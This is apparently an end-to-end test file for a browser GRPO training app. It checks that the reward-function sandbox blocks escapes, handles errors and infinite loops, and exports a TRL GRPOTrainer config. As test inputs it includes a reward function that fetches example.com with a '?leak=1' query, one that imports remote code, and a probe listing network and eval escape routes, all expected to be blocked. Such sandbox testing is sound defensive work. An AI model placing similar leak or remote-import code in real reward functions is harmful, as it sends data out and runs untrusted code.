/**
 * GRPO in Chromium on the demo model and the demo data: the reward editor's examples; the reward
 * sandbox Worker has no network, storage, timers or string evaluation, and throws, NaN, non-numbers
 * and endless loops each get one message (a looping function's Worker is terminated and started again
 * for the next function); a run whose reward loops is stopped by terminating the
 * reward Worker, and the app then trains a few GRPO steps with an example reward, charts reward,
 * reward_std, kl and loss, and exports the run with TRL's GRPOTrainer named.
 */
import { describe, expect, it } from 'vitest';
import { readFileSync } from 'node:fs';
import type { Page } from 'playwright-core';
import { datasetButton, fill, openApp, openTab, withApp } from './app-helpers.ts';

const next = (page: Page) => page.getByRole('region', { name: 'Next step' });

/** Every way out of the sandbox a reward function might try; 7 only when none is there. */
const PROBE = `module.exports = function probe() {
  const names = ['fetch', 'importScripts', 'XMLHttpRequest', 'WebSocket', 'EventSource', 'WebTransport', 'indexedDB', 'caches',
    'Worker', 'SharedWorker', 'BroadcastChannel', 'navigator', 'postMessage', 'setTimeout', 'setInterval', 'eval', 'FontFace',
    'fonts', 'Notification', 'WebAssembly', 'self', 'location', 'Request'];
  let scope = 0;
  for (let o = globalThis; o && o !== Object.prototype; o = Object.getPrototypeOf(o)) scope += names.filter((n) => Object.hasOwn(o, n)).length;
  const compiles = [() => Function('return 1'), () => (function () {}).constructor('return 1'), () => (async function () {}).constructor('')]
    .filter((f) => { try { f(); return true; } catch { return false; } }).length;
  return scope === 0 && compiles === 0 ? 7 : -100 - scope - 10 * compiles;
};`;

async function tryReward(page: Page, source: string): Promise<string> {
  await page.getByLabel('Reward function code', { exact: true }).fill(source);
  await page.getByRole('button', { name: 'Try the reward' }).click();
  const result = page.getByTestId('reward-try');
  await result.waitFor({ timeout: 30_000 });
  return (await result.textContent())!.trim();
}

async function runGrpo(page: Page, steps: number): Promise<string> {
  await fill(page, 'Steps', String(steps));
  await page.getByRole('button', { name: 'Start training' }).click();
  await expect.poll(() => page.getByTestId('run-state').textContent(), { timeout: 240_000 }).toMatch(/finished|failed/);
  return (await page.getByTestId('run-state').textContent())!.trim();
}

describe('GRPO in the app', () => {
  const app = withApp();

  it('sandboxes the reward, stops a looping one, and trains a few GRPO steps with charts', async () => {
    const requests: string[] = [];
    const { context, page, errors } = await openApp(app, '/?nosw', { height: 900, prepare: (c) => { c.on('request', (r) => requests.push(r.url())); } });
    await expect.poll(() => next(page).textContent(), { timeout: 120_000 }).toContain('Add data →');
    await next(page).getByRole('button', { name: 'Try the demo data' }).click();
    await datasetButton(page, 'demo-grounded-qa.jsonl').waitFor({ timeout: 60_000 });
    await openTab(page, 'Train');
    await page.getByTestId('train-method').selectOption('grpo');
    await page.getByTestId('grpo-settings').waitFor();

    // The editor starts with the shipped exact-answer example; the other example is one choice away.
    const reward = page.getByLabel('Reward function', { exact: true });
    expect(await reward.inputValue()).toBe('exact-answer.js');
    expect(await page.getByLabel('Reward function code', { exact: true }).inputValue()).toContain('function exact_answer(');
    await page.getByRole('button', { name: 'Try the reward' }).click();
    await expect.poll(() => page.getByTestId('reward-try').textContent(), { timeout: 30_000 }).toBe('exact_answer → 1');
    await reward.selectOption('format.js');
    expect(await page.getByLabel('Reward function code', { exact: true }).inputValue()).toContain('function format(');

    // Nothing reaches out of the sandbox; each bad answer is one message naming the function and the completion.
    expect(await tryReward(page, PROBE)).toBe('probe → 7');
    expect(await reward.inputValue()).toBe('custom');
    expect(await tryReward(page, 'module.exports = function net() { fetch("https://example.com/?leak=1"); return 1; };'))
      .toBe('reward function net on completion 1 ("Europe") threw ReferenceError: fetch is not defined');
    expect(await tryReward(page, 'module.exports = async function later() { return (await import("https://example.com/x.js")).x; };'))
      .toBe('my-reward.js: uses import, which the reward sandbox does not allow (no network, no modules)');
    expect(await tryReward(page, 'module.exports = function boom() { throw new Error("boom"); };'))
      .toBe('reward function boom on completion 1 ("Europe") threw Error: boom');
    expect(await tryReward(page, 'module.exports = function nan() { return NaN; };'))
      .toBe('reward function nan on completion 1 ("Europe") returned NaN; a reward must be a finite number');
    expect(await tryReward(page, 'module.exports = function word() { return "1"; };'))
      .toBe('reward function word on completion 1 ("Europe") returned a string, not a number');
    const loop = 'module.exports = function spin() { while (true) {} };';
    expect(await tryReward(page, loop))
      .toBe('reward function spin on completion 1 ("Europe") ran over the 1000 ms limit (the reward Worker was stopped and restarted)');
    // The stopped Worker is started again with the same code for the next call.
    expect(await tryReward(page, 'module.exports = { spin() { while (true) {} }, after(prompt, completion) { return completion.length; } };'))
      .toBe('reward function spin on completion 1 ("Europe") ran over the 1000 ms limit (the reward Worker was stopped and restarted); after → 6');

    // A run whose reward loops fails with that message; the app stays usable.
    await page.getByLabel('Train for', { exact: true }).selectOption('steps');
    await fill(page, 'Batch size', '1');
    await fill(page, 'Completions per prompt (G)', '2');
    await fill(page, 'Max completion length', '4');
    expect(await runGrpo(page, 2)).toBe('failed');
    const log = page.getByRole('region', { name: 'Log' }).getByRole('alert');
    await expect.poll(async () => (await log.allTextContents()).join('\n'), { timeout: 10_000 })
      .toMatch(/Error: ?reward function spin on completion \d+ \(.*\) ran over the 1000 ms limit/);

    // The exact-answer example: a few steps, charted with TRL's names.
    await reward.selectOption('exact-answer.js');
    await fill(page, 'Batch size', '2');
    expect(await runGrpo(page, 3)).toBe('finished');
    const charts = page.getByTestId('grpo-charts');
    expect(await charts.getAttribute('data-points')).toBe('3');
    expect(await charts.locator('canvas').count()).toBeGreaterThanOrEqual(3);
    for (const name of ['reward', 'reward_std', 'kl', 'loss']) await charts.getByText(name, { exact: true }).first().waitFor();

    // Saved like every run: the run manifest and the TRL config naming GRPOTrainer.
    await openTab(page, 'Export');
    const files = new Map<string, string>();
    page.on('download', (d) => void d.path().then((p) => files.set(d.suggestedFilename(), readFileSync(p!, 'utf8'))));
    await page.getByRole('button', { name: 'Download the run manifest and TRL config' }).click();
    await expect.poll(() => files.size, { timeout: 30_000 }).toBe(3);
    expect(files.get('train_trl.py')).toContain('GRPOTrainer');
    expect(files.get('run_manifest.json')).toContain('exact-answer.js');

    expect(requests.filter((u) => !u.startsWith(app.server.url) && !u.startsWith('blob:') && !u.startsWith('data:'))).toEqual([]);
    expect(errors).toEqual([]);
    await context.close();
  }, 600_000);
});
